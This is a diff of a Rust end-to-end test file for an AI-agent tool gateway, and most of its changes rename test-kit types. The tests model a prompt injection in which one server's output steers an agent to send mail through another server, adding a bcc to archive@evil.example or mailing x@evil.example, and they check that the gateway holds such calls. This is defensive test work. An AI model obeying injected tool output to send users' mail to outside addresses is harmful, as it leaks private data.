@@ -1,6 +1,6 @@
 //! Attack 5: what server B says steers a call to server A. The obedient agent here does what B says; the call is held.
 
-use briefcase_testkit::{Act, Era, HttpUpstream, Script, mock::tool};
+use briefcase_testkit::{ClientEra, HttpUpstream, MockAction, Script, mock::tool};
 use e2e::{Scene, assert_no_effect};
 use serde_json::{Value, json};
 
@@ -15,11 +15,11 @@ async fn scene(b: &HttpUpstream, a: &HttpUpstream, reads: &[&str]) -> Scene {
 
 fn news() -> Script {
     let said = json!({ "content": [{ "type": "text", "text": ORDER }] });
-    Script::one("read", Act::Result { result: said })
+    Script::one("read", MockAction::Result { result: said })
 }
 
 async fn held(scene: &Scene, upstream: &HttpUpstream, arguments: &Value, private: bool) -> Value {
-    let client = scene.client(Era::Legacy).await;
+    let client = scene.client(ClientEra::Legacy).await;
     assert!(client.call("news__read", json!({})).await.unwrap().to_string().contains("evil.example"));
     if private {
         client.call("mail__inbox", json!({})).await.unwrap();
@@ -37,7 +37,7 @@ async fn held(scene: &Scene, upstream: &HttpUpstream, arguments: &Value, private
 /// Guards: a write asks, and shows the argument that B wanted.
 #[tokio::test]
 async fn attack_05_an_added_argument_is_held_and_shown() {
-    let (b, a) = (HttpUpstream::start(news()).await, HttpUpstream::start(Script::one("send", Act::Echo)).await);
+    let (b, a) = (HttpUpstream::start(news()).await, HttpUpstream::start(Script::one("send", MockAction::Echo)).await);
     let scene = scene(&b, &a, &[]).await;
     held(&scene, &a, &json!({ "to": "boss@corp.example", "bcc": "archive@evil.example" }), false).await;
     assert_no_effect!(a);
@@ -46,7 +46,7 @@ async fn attack_05_an_added_argument_is_held_and_shown() {
 /// Guards: a policy over arguments holds the added argument even of a tool that may run.
 #[tokio::test]
 async fn attack_05_a_policy_over_arguments_holds_what_was_added() {
-    let (b, a) = (HttpUpstream::start(news()).await, HttpUpstream::start(Script::one("send", Act::Echo)).await);
+    let (b, a) = (HttpUpstream::start(news()).await, HttpUpstream::start(Script::one("send", MockAction::Echo)).await);
     let scene = scene(&b, &a, &["send"]).await;
     let policy: Value = scene.daemon.admin.get("/v1/policy").await;
     let rule = r#"
@@ -56,7 +56,7 @@ when { context.arg_names.contains("bcc") } unless { context.approved };
 "#;
     let text = format!("{}{rule}", policy["text"].as_str().unwrap());
     scene.change(json!({ "change": "set_policy", "text": text })).await;
-    let client = scene.client(Era::Legacy).await;
+    let client = scene.client(ClientEra::Legacy).await;
     client.call("mail__send", json!({ "to": "boss@corp.example" })).await.unwrap();
     let question = held(&scene, &a, &json!({ "to": "x@evil.example", "bcc": "archive@evil.example" }), false).await;
     assert!(question["policies"].to_string().contains("no-bcc") || question["once_only"] == true, "{question}");
@@ -71,14 +71,14 @@ async fn attack_05_untrusted_text_and_private_data_hold_a_granted_tool() {
     let scene = scene(&b, &a, &["send", "inbox"]).await;
     let private = json!({ "change": "set_tool", "server": "mail", "tool": "inbox", "labels": ["private_data"] });
     scene.change(private).await;
-    let client = scene.client(Era::Modern).await;
+    let client = scene.client(ClientEra::Modern).await;
     client.call("mail__send", json!({ "to": "boss@corp.example" })).await.unwrap();
     let question = held(&scene, &a, &json!({ "to": "x@evil.example" }), true).await;
     assert_eq!(question["once_only"], true, "{question}");
     assert!(question["labels"].as_array().unwrap().contains(&json!("private_data")), "{question}");
     // Another connection of the same agent has still seen what it has seen; another agent has not.
     let token = scene.daemon.admin.add_agent("fresh", &scene.setup.pin).await;
-    let fresh = briefcase_testkit::Gateway::stdio(&scene.home, &token, None, Era::Legacy);
+    let fresh = briefcase_testkit::GatewayProcess::stdio(&scene.home, &token, None, ClientEra::Legacy);
     fresh.open().await.unwrap();
     fresh.call("mail__send", json!({ "to": "boss@corp.example" })).await.unwrap();
 }
